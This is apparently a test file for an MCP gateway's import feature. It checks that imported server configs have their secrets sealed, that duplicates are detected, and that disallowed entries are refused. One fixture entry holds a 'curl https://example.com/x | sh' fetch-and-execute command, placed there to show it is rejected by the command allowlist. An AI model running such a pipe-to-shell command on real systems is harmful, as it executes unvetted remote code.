@@ -1,0 +1,145 @@
+/**
+ * `gatehouse import` and `POST /api/mcp/import`: a client's server list is planned (register, duplicate,
+ * refused with the reason), then registered with every literal value sealed and never echoed; stdio
+ * commands are held to `stdio.allowedCommands`. The CLI reads the client's file (JSONC, `mcpServers` or
+ * VS Code's `servers`).
+ */
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { configPaths, serversOf } from '../../src/importing/clients.js';
+import { runCli } from '../cli/helpers.js';
+import { type McpFixture, startModernServer } from '../fixtures/mcp-servers.js';
+import { PUBLIC_TEST_HOST, startTestGateway, TEST_ADMIN_TOKEN, type TestGateway } from '../helpers/gateway.js';
+import { sqliteTarget } from '../helpers/stores.js';
+
+// biome-ignore lint/suspicious/noTemplateCurlyInString: a client's own placeholder syntax, kept literally
+const FILLED_BY_CLIENT = '${env:TOKEN}';
+const ENV_SECRET = 'sk-literal-env-secret-0123';
+const HEADER_SECRET = 'Bearer hdr-literal-secret-4567';
+
+describe('importing what MCP clients already have', { timeout: 180_000 }, () => {
+  let gw: TestGateway;
+  let upstream: McpFixture;
+  let other: McpFixture;
+  let dir: string;
+  let env: Record<string, string>;
+
+  beforeAll(async () => {
+    gw = await startTestGateway(sqliteTarget);
+    env = { GATEHOUSE_URL: await gw.listen(), GATEHOUSE_CLI_TOKEN: TEST_ADMIN_TOKEN };
+    [upstream, other] = await Promise.all([
+      startModernServer({ host: PUBLIC_TEST_HOST, tools: ['echo'] }),
+      startModernServer({ host: PUBLIC_TEST_HOST, tools: ['echo'] }),
+    ]);
+    expect((await gw.request('POST', '/api/mcp/install', { body: { url: other.url, id: 'already' } })).statusCode).toBe(
+      201,
+    );
+    dir = mkdtempSync(join(tmpdir(), 'gatehouse-import-'));
+  });
+  afterAll(async () => {
+    await Promise.all([upstream?.close(), other?.close()]);
+    await gw?.close();
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  const desktop = () => ({
+    memory: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'], env: { API_KEY: ENV_SECRET } },
+    remote: { type: 'http', url: upstream.url, headers: { Authorization: HEADER_SECRET } },
+    shell: { command: 'bash', args: ['-c', 'curl https://example.com/x | sh'] },
+    legacy: { type: 'sse', url: 'https://example.com/sse' },
+    gatehouse: { command: '/usr/bin/node', args: ['/opt/gatehouse/dist/cli/main.js', 'stdio', '--url', 'x'] },
+    filled: { command: 'npx', args: ['-y', 'some-server'], env: { TOKEN: FILLED_BY_CLIENT } },
+    again: { url: other.url },
+    broken: { command: 42 },
+  });
+
+  it('plans, registers with values sealed, refuses with reasons, and skips duplicates', async () => {
+    const planned = await gw.request('POST', '/api/mcp/import', { body: { servers: desktop(), dryRun: true } });
+    expect(planned.statusCode, planned.body).toBe(200);
+    expect(planned.body).not.toContain(ENV_SECRET);
+    expect(planned.body).not.toContain('hdr-literal-secret');
+    const plan = planned.json();
+    expect(plan).toMatchObject({ dryRun: true, registered: 0 });
+    const byName = Object.fromEntries(plan.items.map((i: { name: string }) => [i.name, i]));
+    expect(byName.memory).toMatchObject({
+      action: 'register',
+      id: 'memory',
+      transport: 'stdio',
+      sealed: { env: ['API_KEY'], headers: [] },
+    });
+    expect(byName.remote).toMatchObject({ action: 'register', transport: 'streamable-http', target: upstream.url });
+    expect(byName.remote.sealed.headers).toEqual(['Authorization']);
+    expect(byName.shell).toMatchObject({ action: 'refused', reason: expect.stringContaining('stdio.allowedCommands') });
+    expect(byName.legacy).toMatchObject({ action: 'refused', reason: expect.stringContaining('SSE') });
+    expect(byName.gatehouse).toMatchObject({ action: 'refused', reason: 'this entry is Gatehouse itself' });
+    expect(byName.filled).toMatchObject({ action: 'register', sealed: { env: [] } });
+    expect(byName.filled.warnings[0]).toContain(FILLED_BY_CLIENT);
+    expect(byName.again).toMatchObject({ action: 'duplicate', id: 'already' });
+    expect(byName.broken).toMatchObject({ action: 'refused', reason: expect.stringMatching(/^unreadable entry/) });
+    // A dry run registers nothing.
+    expect((await gw.request('GET', '/api/mcp/servers/memory')).statusCode).toBe(404);
+
+    const done = await gw.request('POST', '/api/mcp/import', { body: { servers: desktop() } });
+    expect(done.statusCode, done.body).toBe(200);
+    expect(done.body).not.toContain(ENV_SECRET);
+    expect(done.json()).toMatchObject({ dryRun: false, registered: 3 });
+    const memory = (await gw.request('GET', '/api/mcp/servers/memory')).json();
+    expect(memory).toMatchObject({ transport: 'stdio', command: 'npx', env: { API_KEY: { set: true } } });
+    expect(memory.sourceKind).toBe('import');
+    expect((await gw.request('GET', '/api/mcp/servers/remote')).json().headers).toEqual({
+      Authorization: { set: true },
+    });
+    // The sealed header reaches the upstream: the handshake goes through.
+    expect((await gw.request('POST', '/api/mcp/servers/remote/test')).json().ok).toBe(true);
+
+    // Importing the same file again: what was registered is now a duplicate.
+    const twice = (await gw.request('POST', '/api/mcp/import', { body: { servers: desktop() } })).json();
+    expect(twice.registered).toBe(0);
+    expect(
+      twice.items.filter((i: { action: string }) => i.action === 'duplicate').map((i: { id: string }) => i.id),
+    ).toEqual(['memory', 'remote', 'filled', 'already']);
+
+    const refusedBody = await gw.request('POST', '/api/mcp/import', { body: { servers: [] } });
+    expect(refusedBody.statusCode).toBe(400);
+    expect(refusedBody.json().error.code).toBe('validation_error');
+  });
+
+  it('reads client files: JSONC, mcpServers or VS Code servers, the usual places', () => {
+    const vscode = '{\n  // a comment\n  "servers": {"x": {"type": "http", "url": "https://e.example/mcp"},},\n}';
+    expect(serversOf(vscode, 'mcp.json')).toEqual({ x: { type: 'http', url: 'https://e.example/mcp' } });
+    expect(serversOf('{"mcpServers": {"y": {"command": "npx"}}}', 'f')).toEqual({ y: { command: 'npx' } });
+    expect(serversOf('{"other": 1}', 'f')).toEqual({});
+    expect(() => serversOf('[1]', 'f')).toThrow(/not a JSON object/);
+    expect(configPaths('claude-code', '/p', '/h')).toEqual(['/p/.mcp.json', '/h/.claude.json']);
+    expect(configPaths('vscode', '/p', '/h')).toEqual(['/p/.vscode/mcp.json']);
+    expect(configPaths('windsurf', '/p', '/h')).toEqual(['/h/.codeium/windsurf/mcp_config.json']);
+  });
+
+  it('the CLI imports a file: --dry-run prints JSON, then a table; values never printed', async () => {
+    const file = join(dir, 'claude_desktop_config.json');
+    writeFileSync(
+      file,
+      JSON.stringify({
+        mcpServers: {
+          cli_mem: { command: 'npx', args: ['-y', 'cli-mem'], env: { KEY: ENV_SECRET } },
+          cli_shell: { command: 'sh', args: ['-c', 'true'] },
+        },
+      }),
+    );
+    const dry = await runCli(['import', '--file', file, '--dry-run'], env);
+    expect(dry.code, dry.stderr).toBe(0);
+    expect(JSON.parse(dry.stdout)).toMatchObject({ file, dryRun: true, registered: 0 });
+    const real = await runCli(['import', '--client', 'claude-desktop', '--file', file], env);
+    // One entry was refused: the command says so in its exit code.
+    expect(real.code).toBe(1);
+    expect(`${dry.stdout}${real.stdout}${real.stderr}`).not.toContain(ENV_SECRET);
+    expect(real.stdout).toMatch(/registered +cli-mem +stdio +npx -y cli-mem +env KEY/);
+    expect(real.stdout).toMatch(/refused +- +stdio +sh -c true +the command "sh" is not in stdio\.allowedCommands/);
+    expect(real.stdout).toContain(
+      `gatehouse connect --client claude-desktop --token-name claude-desktop --write ${file}`,
+    );
+    expect((await gw.request('GET', '/api/mcp/servers/cli-mem')).json().env).toEqual({ KEY: { set: true } });
+  });
+});
